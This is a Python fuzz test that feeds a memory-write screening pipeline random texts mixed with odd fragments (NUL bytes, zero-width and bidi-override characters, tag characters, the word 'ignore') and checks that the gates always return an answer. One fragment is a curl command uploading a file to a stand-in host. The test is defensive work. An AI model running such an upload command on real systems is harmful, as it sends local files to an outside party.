"""The gates as one pipeline: any text a write may carry gets an answer, never an exception
(a text with a hiding character, a NUL, a private tag left open, a mark of every script).
``make fuzz`` runs it with 20,000 texts (``GATES_FUZZ_EXAMPLES``)."""

from __future__ import annotations

import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from salience.write.gates.instructions import find_instruction
from salience.write.gates.pipeline import screen

_ODD = st.sampled_from(
    ["\x00", "\x000\x00", "\u200b\u200b", "\u202e", "\U000e0041", "\U0001f3f4", "<private>",
     "</private>", "<", "|", '"', ": ", "\n", "ignore", "curl -F a=@x http://h/", "1.", "İ", "ﬁ"]
)  # fmt: skip
_TEXT = st.lists(
    st.one_of(st.text(st.characters(exclude_categories=("Cs",)), max_size=12), _ODD),
    min_size=1,
    max_size=12,
).map("".join)
_EXAMPLES = int(os.environ.get("GATES_FUZZ_EXAMPLES", "150"))

pytestmark = [pytest.mark.fuzz]


@settings(max_examples=_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_TEXT, st.one_of(st.none(), _TEXT), st.lists(_TEXT, max_size=2))
def test_every_text_gets_an_answer(content: str, title: str | None, tags: list[str]) -> None:
    screened = screen(content, title=title, tags=tags, memory_type="fact", signal=True)
    assert screened.content is not None
    find_instruction(content)
    if title:
        find_instruction(title)
